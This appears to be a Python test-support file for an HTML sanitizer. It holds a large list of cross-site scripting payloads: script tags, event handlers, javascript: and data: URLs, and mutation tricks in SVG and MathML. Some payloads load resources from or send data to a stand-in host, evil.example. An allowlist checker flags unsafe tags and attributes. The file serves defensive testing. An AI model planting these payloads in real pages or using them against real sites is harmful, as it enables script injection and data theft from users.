"""Texts that try to become more than text, and what HTML for the page may consist of."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<x/onclick=alert(1)>x</x>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p></div></article></main><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<img src=x onerror=alert(1)>\u2029",
    "<\x00script>alert(1)</script>",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "//evil.example/x",
    "/page/delete",
    "http://evil.example/?q=secret",
)
AROUND = (
    "{}",
    "# {}",
    "- {}\n- x",
    "| {} |\n|---|\n| y |",
    "`` ` ``{}",
    "```\n{}\n```",
    "> {}",
    "x[^1]\n\n[^1]: {}",
)
LINKING = ("[x]({})", "![x]({})", "[x](<{}>)", "<{}>", "[x][1]\n\n[1]: {}", '[x]({} "title")')
FORMULAS = (
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$$\class{x}{y}\style{background:url(//evil.example)}{z}$$",
    r"\(\unicode{x3cscript}\)",
    r"\[ \begin{array}{c} <img src=x onerror=alert(1)> \end{array} \]",
    "$<img src=x onerror=alert(1)>$",
    r"$\color{red;background:url(//evil.example)}x$",
    "```<script>alert(1)</script>\nx\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "- [ ] <img src=x onerror=alert(1)>",
    "~~<svg onload=alert(1)>~~",
    "![<script>alert(1)</script>](data:image/png;base64,AAAA)",
    '![" onerror=alert(1) x="](data:image/png;base64,AAAA)',
    '[x](http://a/"onmouseover=alert(1))',
    "http://evil.example/<script>alert(1)</script>",
)

VECTORS = (
    *(around.format(script) for around, script in product(AROUND[:4], SCRIPTS)),
    *(around.format(link) for around, link in product(LINKING, LINKS)),
    *(around.format(SCRIPTS[n]) for n, around in enumerate(AROUND)),
    *FORMULAS,
)

ELEMENTS = re.compile(
    r"a|mark|article|b|blockquote|br|code|del|details|div|em|footer|h[1-6]|hr|i|img|li|ol|p|path|pre|s|section|span"
    r"|strong|sub|summary|sup|svg|table|tbody|td|th|thead|tr|ul|button"
)
MATH = re.compile(r"math|m[a-z]+|none|semantics")
NO_MATH = ("main", "map", "mark", "marquee", "menu", "meta", "meter")
ATTRIBUTES = re.compile(
    r"aria-[a-z]+|class|data-[a-z]+|alt|id|rel|target|tabindex|role|start|title|type|hidden|disabled|loading|viewbox|d"
)
LINK = re.compile(r"(?:https?://|mailto:|#fn|/c/)", re.IGNORECASE)
PICTURE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*|/c/[\w.:-]+/files/[\w/.:-]+")


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        is_math = MATH.fullmatch(tag) is not None and tag not in NO_MATH
        if ELEMENTS.fullmatch(tag) is None and not is_math:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name == "href":
                allowed = LINK.match(value or "") is not None
            elif name == "src":
                allowed = PICTURE.fullmatch(value or "") is not None
            else:
                allowed = ATTRIBUTES.fullmatch(name) is not None or (
                    is_math and not name.startswith(("on", "xlink"))
                )
            if not allowed:
                self.problems.append(f"<{tag} {name}={value!r}>")


def problems(html: str) -> list[str]:
    """What is in the HTML that must not be."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems
